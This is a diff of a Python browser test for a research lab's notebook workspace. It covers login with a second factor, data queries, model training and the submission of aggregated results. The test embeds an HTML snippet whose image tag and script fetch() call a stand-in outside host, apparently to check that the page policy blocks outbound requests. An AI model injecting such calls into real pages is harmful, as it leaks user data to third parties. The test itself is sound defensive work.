@@ -1,4 +1,4 @@
-"""A researcher's day in a real browser: log in, query, write a feature, train, compare, submit results, receive them.
+"""A researcher's day in a real browser: log in, practise, write a feature, get rows, train, compare, submit, receive.
 
 Whatever a page shows, the browser sends requests to the lab alone.
 """
@@ -17,6 +17,7 @@ from credit.seal import Kind
 from credit.shelf import Shelf
 from infra import lab_services as on_this_machine
 from tests.lab.workspace.conftest import DAY, Lab, password
+from tests.lab.workspace.workspace_client import second_factor
 
 pytestmark = pytest.mark.servers
 CHROMIUM = "/usr/bin/chromium"
@@ -38,12 +39,15 @@ plain = lab.train(lab.order("enterprise", training=fewer))
 mine = lab.train(lab.order("enterprise", sql=fresh, features=[lab.feature("fresh_penalties", "近6个月处罚次数", +1)], training=fewer))
 print("trained", plain.state, mine.state)"""
 COMPARE = "lab.compare(plain, mine)"
+ROWS = """rows = lab.rows(fresh, as_of="2026-10-01")
+print("rows", len(rows), rows.pandas().columns.tolist())"""
 TABLE = """import pandas as pd
-counts = lab.sql("select kind, count(*) as firms from registration group by kind").pandas()
+some = int((rows.pandas()["fresh_penalties"] > 0).sum())
+counts = pd.DataFrame({"kind": ["enterprise, none", "enterprise, some"], "firms": [len(rows) - some, some]})
 counts["firms"] = (counts["firms"] // 5) * 5
 counts.to_csv("kinds.csv", index=False)
-asked = lab.carry_out("kinds.csv", title="Subjects by kind", purpose="A slide for the yearly report", description="All registered subjects by kind",
-    subjects=int(counts["firms"].sum()), submit=True)
+asked = lab.carry_out("kinds.csv", title="Firms with penalties", purpose="A slide for the yearly report",
+    description="Firms with and without penalties in six months", sources=[rows], subjects=int(counts["firms"].sum()), submit=True)
 print("asked for", asked.id)"""
 CALLS_HOME = """from IPython.display import HTML
 HTML('<img src="https://elsewhere.example/?rows=1"><script>fetch("https://elsewhere.example/2")</script><p>shown</p>')"""
@@ -72,6 +76,10 @@ class BrowserPage:
         self.page.fill("#username_input", user)
         self.page.fill("#password_input", password(user))
         self.page.click("#login_submit")
+        self.page.wait_for_url(lambda url: "/hub/login" not in url)
+        if "second-factor" in self.page.url:
+            self.page.fill("#code_input", second_factor(lab.home, user))
+            self.page.click("#code_submit")
 
     def hosts_requested(self, *, blocked: bool = False) -> set[str]:
         """The hosts of all requests, or of those that the policy of the page blocked."""
@@ -108,12 +116,12 @@ def approve(browser: Browser, lab: Lab, who: str, parcel: str, pictures: Path) -
     page.fill("textarea[name=reason]", "Two kinds, thousands of subjects each")
     page.click("button[value=approve]")
     page.wait_for_load_state()
-    assert browser_page.hosts_requested() == {"127.0.0.1"}
+    assert browser_page.hosts_requested() == {"localhost"}
     page.context.close()
 
 
 def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_path: Path) -> None:
-    with on_this_machine.worker(lab.home, mlflow_server, DAY):
+    with on_this_machine.zones(lab.home, mlflow_server, DAY):
         browser_page = BrowserPage(browser, lab, "dana", "/hub/login")
         page = browser_page.page
         page.locator(".jp-Launcher").wait_for(timeout=120_000)
@@ -121,9 +129,12 @@ def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_p
         page.locator(".jp-Notebook .cm-content").first.wait_for(timeout=120_000)
         page.locator(".jp-StatusBar-Widget", has_text="| Idle").wait_for(timeout=120_000)
 
-        assert "行政处罚" in run(page, LOOK)
+        catalogue = run(page, LOOK)
+        assert "行政处罚" in catalogue
+        assert "invented 虚构" in catalogue
         assert "Did you mean administrative_penalty" in run(page, WRONG)
         assert "fresh_penalties" in run(page, FEATURE)
+        assert "'fresh_penalties'" in run(page, ROWS)
         assert "trained done done" in run(page, TRAIN, seconds=600)
         compared = run(page, COMPARE)
         assert "AUC" in compared
@@ -140,7 +151,7 @@ def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_p
         received = run(page, "got = lab.parcels()[0].collect()\nprint(got.state, got.sealed)")
         assert "received" in received
         assert browser_page.hosts_requested(blocked=True) == {"elsewhere.example"}, "it was tried"
-        assert browser_page.hosts_requested() == {"127.0.0.1"}, "nothing was asked of anybody else"
+        assert browser_page.hosts_requested() == {"localhost"}, "nothing was asked of anybody else"
         page.context.close()
     sealed = received.split("received")[1].split()[0]
     opened = Shelf(lab.home.root / "outbox", KeyRing.load(lab.home.ring_folder)).open(sealed)
